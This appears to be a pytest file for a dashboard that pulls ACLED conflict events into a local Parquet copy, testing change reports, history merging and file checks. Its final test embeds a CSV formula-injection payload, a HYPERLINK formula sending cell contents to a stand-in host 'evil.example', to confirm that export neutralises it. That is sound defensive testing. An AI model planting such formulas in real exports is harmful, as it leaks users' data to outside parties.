"""The local copy of a live source: applying a pull, the change report, the file."""

from __future__ import annotations

import pandas as pd
import pytest

from dashboard import pulled
from dashboard.export import to_csv_bytes
from dashboard.pulled import Copy, Question, Report, Revision
from dashboard.remote import PullError

ID = "event_id_cnty"
QUESTION = Question("acled", ("Nigeria",), "2020-01-01", None)


def events(*rows: tuple[str, str, str]) -> pd.DataFrame:
    return pd.DataFrame([{ID: i, "fatalities": f, "timestamp": t} for i, f, t in rows])


def test_a_first_pull_is_all_new_in_the_sources_order():
    received = events(("NGA2", "1", "10"), ("NGA1", "0", "11"))
    after, report = pulled.apply(received.iloc[:0], received, set(), ID, complete=False)
    assert list(after[ID]) == ["NGA2", "NGA1"]
    assert report == Report(new=("NGA2", "NGA1"))


def test_changes_since_a_timestamp_revise_add_and_delete():
    before = events(("NGA1", "1", "10"), ("NGA2", "2", "10"), ("NGA3", "3", "10"))
    received = events(("NGA2", "5", "20"), ("NGA3", "3", "21"), ("NGA4", "0", "22"))
    after, report = pulled.apply(before, received, {"NGA1", "NGA9"}, ID, complete=False)
    # NGA3 came back with only a new timestamp: not a revision a reader needs to know.
    assert report.new == ("NGA4",)
    assert report.revised == (Revision("NGA2", {"fatalities": ("2", "5")}),)
    assert report.deleted == ("NGA1",)  # NGA9 was never in this copy
    assert after.to_dict("records") == [
        {ID: "NGA2", "fatalities": "5", "timestamp": "20"},
        {ID: "NGA3", "fatalities": "3", "timestamp": "21"},
        {ID: "NGA4", "fatalities": "0", "timestamp": "22"}]


def test_an_event_revised_then_deleted_is_deleted_and_an_added_then_deleted_is_not_new():
    before = events(("1", "1", "10"), ("2", "2", "10"))
    received = events(("1", "5", "20"), ("3", "0", "21"))
    after, report = pulled.apply(before, received, {"1", "3"}, ID, complete=False)
    assert report == Report(deleted=("1",))
    assert list(after[ID]) == ["2"]


def test_a_complete_answer_deletes_what_it_no_longer_holds():
    before = events(("1", "1", ""), ("2", "2", ""))
    after, report = pulled.apply(before, events(("2", "2", ""), ("3", "0", "")), set(), ID,
                                 complete=True)
    assert report == Report(new=("3",), deleted=("1",))
    assert list(after[ID]) == ["2", "3"]


def test_a_new_field_in_the_source_is_kept_and_reported_as_a_change():
    before = events(("1", "1", "10"))
    received = events(("1", "1", "11")).assign(tags="crowd size=large")
    after, report = pulled.apply(before, received, set(), ID, complete=False)
    assert after.loc[0, "tags"] == "crowd size=large"
    assert report.revised == (Revision("1", {"tags": ("", "crowd size=large")}),)


def test_the_source_repeating_an_event_across_pages_keeps_one_the_later():
    frame = pulled.as_text([{ID: "1", "fatalities": 1}, {ID: "1", "fatalities": 2}], ID)
    assert frame.to_dict("records") == [{ID: "1", "fatalities": "2"}]


def test_records_without_the_id_field_are_refused():
    with pytest.raises(PullError, match="no 'event_id_cnty' field"):
        pulled.as_text([{"id": "1"}], ID)


def test_the_copy_keeps_its_events_question_and_history(tmp_path):
    path = tmp_path / "nigeria.parquet"
    received = events(("NGA1", "1", "10"))
    copy = pulled.record(None, QUESTION, ID, received, Report(new=("NGA1",)),
                         {"country": ["Nigeria"]}, 1)
    pulled.write_copy(path, copy)
    again = pulled.read_copy(path)
    assert again.question == QUESTION
    assert again.id_column == ID
    assert again.events.to_dict("records") == received.to_dict("records")
    assert [entry["pull"] for entry in again.history] == [1]
    assert again.history[0]["report"]["counts"] == {"new": 1, "revised": 0, "deleted": 0}
    assert again.newest("timestamp") == 10
    # It reads as any Parquet file does, for every command that loads files.
    assert pd.read_parquet(path).shape == (1, 3)


def test_a_file_that_is_not_a_pulled_copy_is_never_taken_for_one(tmp_path):
    mine = tmp_path / "mine.parquet"
    events(("1", "1", "1")).to_parquet(mine)
    text = tmp_path / "notes.parquet"
    text.write_text("my notes")
    for path in (mine, text):
        with pytest.raises(PullError, match="not a copy this dashboard pulled"):
            pulled.read_copy(path)
    assert pulled.read_copy(tmp_path / "absent.parquet") is None


def test_a_copy_of_another_question_is_not_overwritten(tmp_path):
    copy = Copy(events(), QUESTION, ID)
    with pytest.raises(PullError, match="holds ACLED Nigeria 2020-01-01 to …, not ACLED Mali"):
        pulled.check_question(copy, Question("acled", ("Mali",), "2020-01-01"), tmp_path)


def test_changes_since_a_pull_merge_later_reports():
    history = []
    for report in (Report(new=("1", "2", "3")),
                   Report(revised=(Revision("1", {"fatalities": ("1", "2")}),), new=("4",)),
                   Report(revised=(Revision("1", {"fatalities": ("2", "7")}),
                                   Revision("4", {"actor1": ("a", "b")})),
                          deleted=("2",))):
        history.append({"report": report.to_json()})
    copy = Copy(events(), QUESTION, ID, tuple(history))
    merged = pulled.since_pull(copy, 1)
    assert merged.new == ("4",)  # new after pull 1: its revision is part of being new
    assert merged.revised == (Revision("1", {"fatalities": ("1", "7")}),)
    assert merged.deleted == ("2",)
    assert merged.touching({"1"}) == Report(revised=merged.revised)


def test_the_report_as_csv_cannot_run_a_formula_in_a_spreadsheet():
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    report = Report(revised=(Revision("1", {"location": ("Mosul", hostile)}),))
    text = to_csv_bytes(report.rows()).decode()
    assert "'=HYPERLINK" in text
    assert ',=HYPERLINK' not in text
